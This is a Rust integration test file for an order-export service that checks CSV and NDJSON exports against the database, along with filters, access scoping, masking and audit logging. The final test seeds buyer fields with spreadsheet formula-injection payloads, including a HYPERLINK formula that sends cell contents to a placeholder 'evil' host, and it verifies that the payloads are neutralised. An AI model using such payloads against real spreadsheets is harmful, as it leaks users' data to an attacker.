//! `GET /orders/export` and `allegro-backup export`: what is exported equals the database.

use std::collections::HashMap;

use allegro_backup::domain::Role;
use diesel::{
    PgConnection, RunQueryDsl, sql_query,
    sql_types::{BigInt, Jsonb, Nullable, Text},
};
use reqwest::{StatusCode, header};
use serde_json::{Value, json};

use crate::helpers::{TestApp, spawn_app};

/// An order inserted straight into the database.
pub(crate) struct Seed<'a> {
    pub account: i64,
    pub id: &'a str,
    pub status: &'a str,
    /// A PostgreSQL timestamptz literal.
    pub bought_at: &'a str,
    pub total: &'a str,
    pub currency: &'a str,
    pub first_name: &'a str,
    pub last_name: &'a str,
    pub email: &'a str,
    /// (offer name, quantity, unit price)
    pub items: &'a [(&'a str, i32, &'a str)],
    pub merged_into: Option<&'a str>,
}

impl Default for Seed<'_> {
    fn default() -> Self {
        Seed {
            account: 0,
            id: "",
            status: "READY_FOR_PROCESSING",
            bought_at: "2026-11-01 10:00:00+00",
            total: "100.00",
            currency: "PLN",
            first_name: "Jan",
            last_name: "Kowalski",
            email: "jan@example.com",
            items: &[("Kubek", 1, "100.00")],
            merged_into: None,
        }
    }
}

pub(crate) fn insert_account(conn: &mut PgConnection, login: &str) -> i64 {
    #[derive(diesel::QueryableByName)]
    struct Id {
        #[diesel(sql_type = BigInt)]
        id: i64,
    }
    sql_query(
        "INSERT INTO allegro_accounts (environment, allegro_user_id, login, status) \
         VALUES ('simulator', $1, $1, 'connected') RETURNING id",
    )
    .bind::<Text, _>(login)
    .get_result::<Id>(conn)
    .unwrap()
    .id
}

pub(crate) fn insert_order(conn: &mut PgConnection, seed: &Seed) -> i64 {
    #[derive(diesel::QueryableByName)]
    struct Id {
        #[diesel(sql_type = BigInt)]
        id: i64,
    }
    let raw = json!({
        "id": seed.id,
        "status": seed.status,
        "buyer": {
            "id": "b1", "email": seed.email, "login": "buyer_1",
            "firstName": seed.first_name, "lastName": seed.last_name,
            "address": {"street": "Solna 12/4", "city": "Poznań"}
        },
        "summary": {"totalToPay": {"amount": seed.total, "currency": seed.currency}},
        "lineItems": seed.items.iter().enumerate().map(|(i, (name, qty, price))| json!({
            "id": format!("{}-li-{i}", seed.id),
            "offer": {"id": format!("offer-{i}"), "name": name},
            "quantity": qty,
            "price": {"amount": price, "currency": seed.currency}
        })).collect::<Vec<_>>(),
    });
    let id = sql_query(
        "INSERT INTO orders (account_id, checkout_form_id, status, buyer_id, buyer_login, \
         buyer_email, buyer_first_name, buyer_last_name, total_amount, currency, line_item_count, \
         bought_at, content_hash, raw, merged_into) \
         VALUES ($1, $2, $3, 'b1', 'buyer_1', $4, $5, $6, $7::numeric, $8, $9::int, \
         $10::timestamptz, 'h', $11, $12) RETURNING id",
    )
    .bind::<BigInt, _>(seed.account)
    .bind::<Text, _>(seed.id)
    .bind::<Text, _>(seed.status)
    .bind::<Text, _>(seed.email)
    .bind::<Text, _>(seed.first_name)
    .bind::<Text, _>(seed.last_name)
    .bind::<Text, _>(seed.total)
    .bind::<Text, _>(seed.currency)
    .bind::<Text, _>(seed.items.len().to_string())
    .bind::<Text, _>(seed.bought_at)
    .bind::<Jsonb, _>(raw)
    .bind::<Nullable<Text>, _>(seed.merged_into)
    .get_result::<Id>(conn)
    .unwrap()
    .id;
    for (i, (name, qty, price)) in seed.items.iter().enumerate() {
        sql_query(
            "INSERT INTO order_line_items (order_id, line_item_id, offer_id, offer_name, quantity, \
             price, currency) VALUES ($1, $2, $3, $4, $5::int, $6::numeric, $7)",
        )
        .bind::<BigInt, _>(id)
        .bind::<Text, _>(format!("{}-li-{i}", seed.id))
        .bind::<Text, _>(format!("offer-{i}"))
        .bind::<Text, _>(*name)
        .bind::<Text, _>(qty.to_string())
        .bind::<Text, _>(*price)
        .bind::<Text, _>(seed.currency)
        .execute(conn)
        .unwrap();
    }
    id
}

/// Sets a user's account scope and masking by email.
pub(crate) fn restrict_user(
    conn: &mut PgConnection,
    email: &str,
    accounts: Option<&[i64]>,
    hide_personal_data: bool,
) {
    sql_query("DELETE FROM user_accounts WHERE user_id = (SELECT id FROM users WHERE email = $1)")
        .bind::<Text, _>(email)
        .execute(conn)
        .unwrap();
    sql_query("UPDATE users SET all_accounts = $2, hide_personal_data = $3 WHERE email = $1")
        .bind::<Text, _>(email)
        .bind::<diesel::sql_types::Bool, _>(accounts.is_none())
        .bind::<diesel::sql_types::Bool, _>(hide_personal_data)
        .execute(conn)
        .unwrap();
    for account in accounts.unwrap_or_default() {
        sql_query(
            "INSERT INTO user_accounts (user_id, account_id) \
             SELECT id, $2 FROM users WHERE email = $1",
        )
        .bind::<Text, _>(email)
        .bind::<BigInt, _>(*account)
        .execute(conn)
        .unwrap();
    }
}

const NASTY_FIRST: &str = "Zażółć \"gęślą\", jaźń";
const NASTY_LAST: &str = "Łęcka\nz Wąchocka; 'x'\r\n=SUM(A1)";

/// Two accounts: A with three orders (one with nasty text, one cancelled with two items,
/// one merged away), B with one.
fn seed(app: &TestApp) -> (i64, i64) {
    let mut conn = app.db.connect();
    let a = insert_account(&mut conn, "sklep_a");
    let b = insert_account(&mut conn, "sklep_b");
    insert_order(
        &mut conn,
        &Seed {
            account: a,
            id: "a-1",
            first_name: NASTY_FIRST,
            last_name: NASTY_LAST,
            email: "zofia@example.pl",
            total: "1234.50",
            items: &[("Kubek „Łódź”, 330 ml", 2, "617.25")],
            ..Seed::default()
        },
    );
    insert_order(
        &mut conn,
        &Seed {
            account: a,
            id: "a-2",
            status: "CANCELLED",
            bought_at: "2026-11-02 23:30:00+00",
            total: "0.10",
            items: &[("Talerz", 1, "0.05"), ("Miska", 1, "0.05")],
            ..Seed::default()
        },
    );
    insert_order(
        &mut conn,
        &Seed {
            account: a,
            id: "a-3",
            merged_into: Some("a-1"),
            ..Seed::default()
        },
    );
    insert_order(
        &mut conn,
        &Seed {
            account: b,
            id: "b-1",
            currency: "EUR",
            ..Seed::default()
        },
    );
    (a, b)
}

async fn admin(app: &TestApp) -> reqwest::Client {
    app.signed_in_client("root@example.com", Role::Admin).await
}

async fn export(app: &TestApp, client: &reqwest::Client, query: &str) -> reqwest::Response {
    app.get_with(client, &format!("/orders/export?{query}"))
        .await
}

/// The CSV's records as header → value maps (the BOM checked and removed).
fn parse_csv(body: &[u8]) -> Vec<HashMap<String, String>> {
    assert!(body.starts_with(b"\xEF\xBB\xBF"), "UTF-8 BOM first");
    let mut reader = csv::Reader::from_reader(&body[3..]);
    let headers = reader.headers().unwrap().clone();
    reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            headers
                .iter()
                .zip(r.iter())
                .map(|(h, v)| (h.to_owned(), v.to_owned()))
                .collect()
        })
        .collect()
}

fn ids(rows: &[HashMap<String, String>]) -> Vec<&str> {
    rows.iter().map(|r| r["order_id"].as_str()).collect()
}

#[derive(diesel::QueryableByName, Debug)]
struct Stored {
    #[diesel(sql_type = Text)]
    checkout_form_id: String,
    #[diesel(sql_type = Text)]
    status: String,
    #[diesel(sql_type = Nullable<Text>)]
    buyer_first_name: Option<String>,
    #[diesel(sql_type = Nullable<Text>)]
    buyer_last_name: Option<String>,
    #[diesel(sql_type = Nullable<Text>)]
    buyer_email: Option<String>,
    #[diesel(sql_type = Nullable<Text>)]
    total: Option<String>,
    #[diesel(sql_type = Nullable<Text>)]
    bought: Option<String>,
    #[diesel(sql_type = Text)]
    login: String,
}

#[tokio::test]
async fn csv_export_equals_the_database_even_with_nasty_content() {
    let app = spawn_app().await;
    seed(&app);
    let client = admin(&app).await;
    let response = export(&app, &client, "format=csv").await;
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(
        response.headers()[header::CONTENT_TYPE],
        "text/csv; charset=utf-8"
    );
    let disposition = response.headers()[header::CONTENT_DISPOSITION]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(
        disposition.starts_with("attachment; filename=\"allegro-orders-all-")
            && disposition.ends_with(".csv\""),
        "{disposition}"
    );
    let rows = parse_csv(&response.bytes().await.unwrap());
    // The merged-away order is left out, as in the list.
    assert_eq!(ids(&rows), ["a-1", "a-2", "b-1"]);

    let stored: Vec<Stored> = sql_query(
        "SELECT checkout_form_id, o.status, buyer_first_name, buyer_last_name, buyer_email, \
         total_amount::text AS total, \
         to_char(bought_at AT TIME ZONE 'UTC', 'YYYY-MM-DD\"T\"HH24:MI:SS\"Z\"') AS bought, \
         a.login FROM orders o JOIN allegro_accounts a ON a.id = o.account_id \
         WHERE merged_into IS NULL ORDER BY o.id",
    )
    .load(&mut app.db.connect())
    .unwrap();
    assert_eq!(stored.len(), rows.len());
    for (row, db) in rows.iter().zip(&stored) {
        assert_eq!(row["order_id"], db.checkout_form_id);
        assert_eq!(row["account"], db.login);
        assert_eq!(row["status"], db.status);
        assert_eq!(
            row["buyer_first_name"],
            db.buyer_first_name.clone().unwrap()
        );
        assert_eq!(row["buyer_last_name"], db.buyer_last_name.clone().unwrap());
        assert_eq!(row["buyer_email"], db.buyer_email.clone().unwrap());
        assert_eq!(row["total_amount"], db.total.clone().unwrap());
        assert_eq!(row["bought_at_utc"], db.bought.clone().unwrap());
    }
    assert_eq!(rows[0]["buyer_first_name"], NASTY_FIRST);
    assert_eq!(rows[0]["buyer_last_name"], NASTY_LAST);
    assert_eq!(rows[0]["total_amount"], "1234.50");
    assert_eq!(rows[0]["bought_at_local"], "2026-11-01 11:00");
    assert_eq!(rows[1]["bought_at_local"], "2026-11-03 00:30");
    assert_eq!(rows[2]["currency"], "EUR");
}

#[tokio::test]
async fn csv_items_has_one_row_per_line_item() {
    let app = spawn_app().await;
    seed(&app);
    let client = admin(&app).await;
    let response = export(&app, &client, "format=csv-items&account=sklep_a").await;
    assert_eq!(response.status(), StatusCode::OK);
    let disposition = response.headers()[header::CONTENT_DISPOSITION]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(
        disposition.contains("allegro-orders-sklep_a-"),
        "{disposition}"
    );
    let rows = parse_csv(&response.bytes().await.unwrap());
    let items: Vec<(&str, &str, &str, &str)> = rows
        .iter()
        .map(|r| {
            (
                r["order_id"].as_str(),
                r["offer_name"].as_str(),
                r["quantity"].as_str(),
                r["price"].as_str(),
            )
        })
        .collect();
    assert_eq!(
        items,
        [
            ("a-1", "Kubek „Łódź”, 330 ml", "2", "617.25"),
            ("a-2", "Talerz", "1", "0.05"),
            ("a-2", "Miska", "1", "0.05"),
        ]
    );
    assert!(rows.iter().all(|r| r["account"] == "sklep_a"));
    assert_eq!(rows[1]["order_total_amount"], "0.10");
}

fn stored_raw(app: &TestApp, merged: bool) -> Vec<Value> {
    #[derive(diesel::QueryableByName)]
    struct Raw {
        #[diesel(sql_type = Jsonb)]
        raw: Value,
    }
    let sql = if merged {
        "SELECT raw FROM orders ORDER BY id"
    } else {
        "SELECT raw FROM orders WHERE merged_into IS NULL ORDER BY id"
    };
    sql_query(sql)
        .load::<Raw>(&mut app.db.connect())
        .unwrap()
        .into_iter()
        .map(|r| r.raw)
        .collect()
}

fn ndjson(body: &str) -> Vec<Value> {
    body.lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[tokio::test]
async fn ndjson_lines_equal_the_stored_json_and_merged_orders_follow_the_filter() {
    let app = spawn_app().await;
    seed(&app);
    let client = admin(&app).await;
    let response = export(&app, &client, "format=ndjson").await;
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(
        response.headers()[header::CONTENT_TYPE],
        "application/x-ndjson"
    );
    let body = response.text().await.unwrap();
    assert_eq!(body.lines().count(), 3);
    assert_eq!(ndjson(&body), stored_raw(&app, false));

    let with_merged = export(&app, &client, "format=ndjson&merged=1")
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(ndjson(&with_merged), stored_raw(&app, true));
}

#[tokio::test]
async fn filters_apply_to_the_export() {
    let app = spawn_app().await;
    seed(&app);
    let client = admin(&app).await;
    for (query, expected) in [
        ("status=CANCELLED", vec!["a-2"]),
        ("currency=eur", vec!["b-1"]),
        ("bought_from=2026-11-03&bought_to=2026-11-03", vec!["a-2"]),
        ("min_total=1000", vec!["a-1"]),
        ("q=zofia", vec!["a-1"]),
        ("merged=1&account=sklep_a", vec!["a-1", "a-2", "a-3"]),
        // Not filters: ignored.
        (
            "sort=total_desc&cursor=zzz&page_size=5&utm=1",
            vec!["a-1", "a-2", "b-1"],
        ),
    ] {
        let response = export(&app, &client, &format!("format=csv&{query}")).await;
        assert_eq!(response.status(), StatusCode::OK, "{query}");
        let rows = parse_csv(&response.bytes().await.unwrap());
        assert_eq!(ids(&rows), expected, "{query}");
    }
    let response = export(&app, &client, "format=csv&status=CANCELLED").await;
    let disposition = response.headers()[header::CONTENT_DISPOSITION]
        .to_str()
        .unwrap();
    assert!(
        disposition.contains("allegro-orders-all-status-CANCELLED-"),
        "{disposition}"
    );
}

#[tokio::test]
async fn a_scoped_user_exports_only_their_accounts() {
    let app = spawn_app().await;
    let (a, _) = seed(&app);
    let client = app.signed_in_client("ola@example.com", Role::Viewer).await;
    restrict_user(&mut app.db.connect(), "ola@example.com", Some(&[a]), false);
    let rows = parse_csv(
        &export(&app, &client, "format=csv")
            .await
            .bytes()
            .await
            .unwrap(),
    );
    assert_eq!(ids(&rows), ["a-1", "a-2"]);
    // Naming another account does not widen the scope.
    let rows = parse_csv(
        &export(&app, &client, "format=csv&account=sklep_b")
            .await
            .bytes()
            .await
            .unwrap(),
    );
    assert!(rows.is_empty());
    let lines = export(&app, &client, "format=ndjson&merged=1")
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(lines.lines().count(), 3);
    assert!(!lines.contains("b-1"));
}

#[tokio::test]
async fn a_user_without_personal_data_gets_masked_csv_and_no_ndjson() {
    let app = spawn_app().await;
    seed(&app);
    let client = app
        .signed_in_client("ola@example.com", Role::Operator)
        .await;
    restrict_user(&mut app.db.connect(), "ola@example.com", None, true);
    let rows = parse_csv(
        &export(&app, &client, "format=csv")
            .await
            .bytes()
            .await
            .unwrap(),
    );
    assert_eq!(rows[0]["buyer_email"], "z***@***.pl");
    assert_eq!(rows[0]["buyer_first_name"], "Z*** ***");
    assert!(!rows[0]["buyer_first_name"].contains("gęślą"));
    assert!(!rows[0]["buyer_last_name"].contains("Wąchocka"));
    assert_eq!(rows[0]["buyer_login"], "b***");
    assert_eq!(rows[0]["total_amount"], "1234.50");
    let items = parse_csv(
        &export(&app, &client, "format=csv-items")
            .await
            .bytes()
            .await
            .unwrap(),
    );
    assert_eq!(items[0]["buyer_email"], "z***@***.pl");
    let response = export(&app, &client, "format=ndjson").await;
    assert_eq!(response.status(), StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn bad_formats_and_filters_are_a_400_naming_the_parameter() {
    let app = spawn_app().await;
    seed(&app);
    let client = admin(&app).await;
    for (query, parameter) in [
        ("", "format"),
        ("format=xlsx", "format"),
        ("format=csv&status=SHIPPED", "status"),
        ("format=csv&bought_from=2026-13-40", "bought_from"),
        ("format=csv&min_total=abc", "min_total"),
        ("format=%ZZ%&&=&status", "format"),
    ] {
        let response = export(&app, &client, query).await;
        assert_eq!(response.status(), StatusCode::BAD_REQUEST, "{query}");
        let body = response.text().await.unwrap();
        assert!(body.contains(&format!("{parameter}:")), "{query}: {body}");
    }
    // Signed out: to the login page.
    let response = app
        .get_with(&crate::helpers::new_client(), "/orders/export?format=csv")
        .await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
}

#[tokio::test]
async fn exports_are_audit_logged_with_their_row_count() {
    let app = spawn_app().await;
    seed(&app);
    let client = admin(&app).await;
    let response = export(&app, &client, "format=csv&status=READY_FOR_PROCESSING").await;
    response.bytes().await.unwrap();
    #[derive(diesel::QueryableByName)]
    struct Entry {
        #[diesel(sql_type = Nullable<Text>)]
        actor_email: Option<String>,
        #[diesel(sql_type = Jsonb)]
        details: Value,
    }
    let entries: Vec<Entry> =
        sql_query("SELECT actor_email, details FROM audit_log WHERE action = 'orders_exported'")
            .load(&mut app.db.connect())
            .unwrap();
    assert_eq!(entries.len(), 1);
    assert_eq!(entries[0].actor_email.as_deref(), Some("root@example.com"));
    let d = &entries[0].details;
    assert_eq!(d["format"], "csv");
    assert_eq!(d["filters"]["status"], "READY_FOR_PROCESSING");
    assert_eq!(d["orders"], 2);
    assert_eq!(d["completed"], true);
}

#[tokio::test]
async fn an_export_larger_than_a_chunk_streams_every_order_once() {
    let app = spawn_app().await;
    let mut conn = app.db.connect();
    let account = insert_account(&mut conn, "duzy");
    sql_query(
        "INSERT INTO orders (account_id, checkout_form_id, status, buyer_id, content_hash, raw, \
         bought_at, total_amount, currency) \
         SELECT $1, 'o-' || g, 'BOUGHT', 'b', 'h', jsonb_build_object('id', 'o-' || g), \
                now() - g * interval '1 minute', g, 'PLN' \
         FROM generate_series(1, 2500) g",
    )
    .bind::<BigInt, _>(account)
    .execute(&mut conn)
    .unwrap();
    let client = admin(&app).await;
    let rows = parse_csv(
        &export(&app, &client, "format=csv")
            .await
            .bytes()
            .await
            .unwrap(),
    );
    assert_eq!(rows.len(), 2500);
    let unique: std::collections::HashSet<&str> = ids(&rows).into_iter().collect();
    assert_eq!(unique.len(), 2500);
    let body = export(&app, &client, "format=ndjson")
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(body.lines().count(), 2500);
}

fn cli_export(app: &TestApp, args: &[&str]) -> std::process::Output {
    std::process::Command::new(env!("CARGO_BIN_EXE_allegro-backup"))
        .arg("export")
        .args(args)
        .env("DATABASE_URL", &app.db.url)
        .env(
            "SECRET_KEY",
            "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff",
        )
        .current_dir(std::env::temp_dir())
        .output()
        .unwrap()
}

#[tokio::test]
async fn the_command_line_export_writes_the_same_data_to_stdout() {
    let app = spawn_app().await;
    seed(&app);
    let output = cli_export(&app, &["--format", "ndjson"]);
    assert!(output.status.success(), "{output:?}");
    let body = String::from_utf8(output.stdout).unwrap();
    assert_eq!(ndjson(&body), stored_raw(&app, false));

    let output = cli_export(
        &app,
        &[
            "--format",
            "csv",
            "--account",
            "sklep_a",
            "--since",
            "2026-11-03",
        ],
    );
    assert!(output.status.success(), "{output:?}");
    assert_eq!(ids(&parse_csv(&output.stdout)), ["a-2"]);

    let output = cli_export(&app, &["--format", "csv-items"]);
    assert_eq!(parse_csv(&output.stdout).len(), 4);

    let output = cli_export(&app, &["--format", "csv", "--since", "yesterday"]);
    assert!(!output.status.success());
    assert!(String::from_utf8_lossy(&output.stderr).contains("--since"));
    let output = cli_export(&app, &["--format", "csv", "--account", "nobody"]);
    assert!(!output.status.success());
    let output = cli_export(&app, &["--format", "xml"]);
    assert!(!output.status.success());
}

#[tokio::test]
async fn ndjson_read_on_two_connections_is_the_same_file_as_on_one() {
    use allegro_backup::orders::{
        OrderFilter, OrderParams, Viewer,
        export::{ExportFormat, write_export},
    };
    let app = spawn_app().await;
    let mut conn = app.db.connect();
    let account = insert_account(&mut conn, "rownolegle");
    // Every third order is cancelled, so the filtered chunks are not runs of consecutive ids.
    sql_query(
        "INSERT INTO orders (account_id, checkout_form_id, status, buyer_id, content_hash, raw, \
         bought_at, total_amount, currency) \
         SELECT $1, 'o-' || g, CASE WHEN g % 3 = 0 THEN 'CANCELLED' ELSE 'READY_FOR_PROCESSING' END, \
                'b', 'h', jsonb_build_object('id', 'o-' || g, 'note', 'line \"' || g || E'\"\\n'), \
                now() - g * interval '1 minute', g, 'PLN' \
         FROM generate_series(1, 4321) g",
    )
    .bind::<BigInt, _>(account)
    .execute(&mut conn)
    .unwrap();
    let params = OrderParams {
        status: Some("READY_FOR_PROCESSING".into()),
        ..OrderParams::default()
    };
    let filter = OrderFilter::parse(&params, chrono_tz::UTC).unwrap();
    let viewer = Viewer::unrestricted(0, Role::Admin);
    let export_with = |helper: Option<&mut PgConnection>| {
        let mut file = Vec::new();
        let outcome = write_export(
            &mut app.db.connect(),
            helper,
            &viewer,
            &filter,
            ExportFormat::Ndjson,
            chrono_tz::UTC,
            |bytes| {
                file.extend_from_slice(&bytes);
                true
            },
        )
        .unwrap();
        (outcome.rows, String::from_utf8(file).unwrap())
    };
    let (rows_alone, alone) = export_with(None);
    let (rows_paired, paired) = export_with(Some(&mut app.db.connect()));

    #[derive(diesel::QueryableByName)]
    struct Line {
        #[diesel(sql_type = Text)]
        line: String,
    }
    let expected: String = sql_query(
        "SELECT raw::text AS line FROM orders WHERE status = 'READY_FOR_PROCESSING' ORDER BY id",
    )
    .load::<Line>(&mut conn)
    .unwrap()
    .into_iter()
    .map(|l| l.line + "\n")
    .collect();
    assert_eq!(rows_alone, 2881);
    assert_eq!(rows_paired, 2881);
    assert_eq!(alone, expected);
    assert_eq!(paired, expected);
}

/// A buyer-typed formula, as a spreadsheet would run it.
const FORMULA: &str = "=HYPERLINK(\"http://evil/?\"&B2,\"x\")";

#[tokio::test]
async fn formulas_typed_by_buyers_are_neutralised_in_every_csv_and_amounts_stay_numbers() {
    let app = spawn_app().await;
    let account = insert_account(&mut app.db.connect(), "sklep_a");
    insert_order(
        &mut app.db.connect(),
        &Seed {
            account,
            id: "f-1",
            first_name: FORMULA,
            last_name: "@SUM(1+1)",
            email: "+48600100200",
            total: "-12.50",
            items: &[("-1+1 kubek", 1, "-12.50")],
            ..Seed::default()
        },
    );
    let client = admin(&app).await;
    // The first row of the web export and of the CLI's, in `format`.
    let first_rows = |format: &'static str| {
        let (app, client) = (&app, &client);
        async move {
            let web = export(app, client, &format!("format={format}")).await;
            let web = parse_csv(&web.bytes().await.unwrap());
            let cli = parse_csv(&cli_export(app, &["--format", format]).stdout);
            [web[0].clone(), cli[0].clone()]
        }
    };
    for row in first_rows("csv").await {
        assert_eq!(row["buyer_first_name"], format!("'{FORMULA}"));
        assert_eq!(row["buyer_last_name"], "'@SUM(1+1)");
        assert_eq!(row["buyer_email"], "'+48600100200");
        assert_eq!(row["total_amount"], "-12.50");
    }
    for row in first_rows("csv-items").await {
        assert_eq!(row["offer_name"], "'-1+1 kubek");
        assert_eq!(row["buyer_email"], "'+48600100200");
        assert_eq!(row["price"], "-12.50");
        assert_eq!(row["order_total_amount"], "-12.50");
    }
}
